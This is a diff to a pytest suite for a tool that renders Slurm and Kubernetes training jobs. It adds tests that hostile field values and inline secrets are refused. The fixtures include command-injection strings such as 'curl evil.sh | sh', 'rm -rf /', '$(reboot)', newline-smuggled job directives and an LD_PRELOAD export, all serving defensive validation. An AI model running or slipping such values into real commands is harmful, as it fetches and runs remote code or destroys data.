@@ -64,7 +64,7 @@ def test_slurm_script_asks_for_two_nodes_of_eight_gpus_with_one_task_per_node():
     assert options["--nodes"] == "2"
     assert options["--ntasks-per-node"] == "1"  # one torchrun per node; torchrun starts the 8 ranks
     assert options["--gpus-per-node"] == "8"
-    assert options["--signal"] == "TERM@120"  # ranks checkpoint before the time limit
+    assert options["--signal"] == "USR1@360"  # to every node's launcher: 300 s of grace before the time limit, +60
     assert options["--mem"] == "512G"
     subprocess.run(["bash", "-n"], input=script, text=True, check=True)  # the rendered script parses
 
@@ -96,8 +96,9 @@ def test_slurm_script_runs_torchrun_with_c10d_rendezvous_on_the_first_node_and_t
         "SLURM_JOB_ID": "4242",
         "RECORD": str(record),
         "HOME": str(tmp_path),
+        "PYTHONPATH": os.environ.get("PYTHONPATH", ""),  # the d9d launcher each node runs torchrun under
     }
-    subprocess.run(["bash", str(script)], env=environ, check=True, timeout=30)
+    subprocess.run(["bash", str(script)], env=environ, check=True, timeout=120)
 
     args = (record / "args").read_text().splitlines()
     options = _torchrun_options(args)
@@ -155,7 +156,10 @@ def test_kubernetes_torchrun_takes_its_node_rank_from_the_completion_index_and_m
     pod = job["spec"]["template"]["spec"]
     (container,) = pod["containers"]
     command = container["command"]
-    assert command[0] == "torchrun"
+    # PID 1 is the d9d launcher: the pod's SIGTERM reaches the ranks directly, within the pod's grace period.
+    assert command[:6] == ["python", "-m", "d9d.flows.jobs.launch", "--grace=300", "--", "torchrun"]
+    assert pod["terminationGracePeriodSeconds"] == 330
+    command = command[5:]
     options = _torchrun_options(command[1:])
     assert options["--nnodes"] == "2"
     assert options["--nproc-per-node"] == "8"
@@ -266,3 +270,63 @@ def test_dockerfile_copies_only_paths_that_exist_and_that_its_dockerignore_lets_
 def test_cluster_spec_rejects_zero_nodes_or_gpus(field):
     with pytest.raises(ValueError, match=field):
         ClusterJobSpec(**{field: 0})
+
+
+# Hostile values are refused, secrets never rendered --------------------------------------------------------------
+
+HOSTILE = {
+    "module": "d9d.flows.jobs.pretrain.program; curl evil.sh | sh",
+    "partition": "gpu\n#SBATCH --uid=0",
+    "account": "acct$(reboot)",
+    "shared_dir": "/shared/d9d\nrm -rf /",
+    "config": "/shared/jobs/a b.yaml",
+    "venv": "/opt/venv'; reboot; '",
+    "image": "ghcr.io/d9d/train:1 --privileged",
+    "namespace": "default\nkind: ClusterRole",
+    "shared_claim": 'claim"}',
+}
+
+
+@pytest.mark.parametrize("field", sorted(HOSTILE))
+def test_a_hostile_value_is_refused_naming_the_field(field):
+    with pytest.raises(ValueError, match=field):
+        ClusterJobSpec(**{field: HOSTILE[field]})
+
+
+@pytest.mark.parametrize(
+    ("env", "problem"),
+    [
+        ({"BAD NAME": "x"}, "is not a variable name"),
+        ({"X;reboot": "x"}, "is not a variable name"),
+        ({"NOTE": "line\nexport LD_PRELOAD=/tmp/evil.so"}, "holds a newline"),
+        ({"WANDB_API_KEY": "abc123"}, "looks like a secret"),
+        ({"HF_TOKEN": "hf_abc"}, "looks like a secret"),
+        ({"DB_PASSWORD": "pw"}, "looks like a secret"),
+    ],
+)
+def test_environment_names_and_values_are_checked_and_secrets_refused_inline(env, problem):
+    with pytest.raises(ValueError, match=problem):
+        ClusterJobSpec(env=env)
+
+
+def test_the_render_job_command_refuses_a_hostile_value_with_exit_2(capsys):
+    argv = ["render-job", "slurm", "--templates", str(INFRA), "--set", "partition=gpu;reboot"]
+    assert main(argv) == 2
+    assert "partition = 'gpu;reboot'" in capsys.readouterr().err
+
+
+def test_secrets_come_from_secret_key_refs_and_the_slurm_environment_never_from_the_file():
+    spec = ClusterJobSpec(secret_env={"WANDB_API_KEY": {"secret": "wandb", "key": "api-key"}})
+    job = _k8s_documents(spec)["Job"]
+    (container,) = job["spec"]["template"]["spec"]["containers"]
+    env = {item["name"]: item for item in container["env"]}
+    assert env["WANDB_API_KEY"] == {
+        "name": "WANDB_API_KEY",
+        "valueFrom": {"secretKeyRef": {"name": "wandb", "key": "api-key"}},
+    }
+    script = render_cluster_job("slurm", spec, templates=INFRA)
+    subprocess.run(["bash", "-n"], input=script, text=True, check=True)
+    done = subprocess.run(
+        ["bash", "-c", script.split("export OMP_NUM_THREADS")[0]], capture_output=True, text=True, check=False
+    )
+    assert done.returncode != 0 and "WANDB_API_KEY must be set in the environment that runs sbatch" in done.stderr
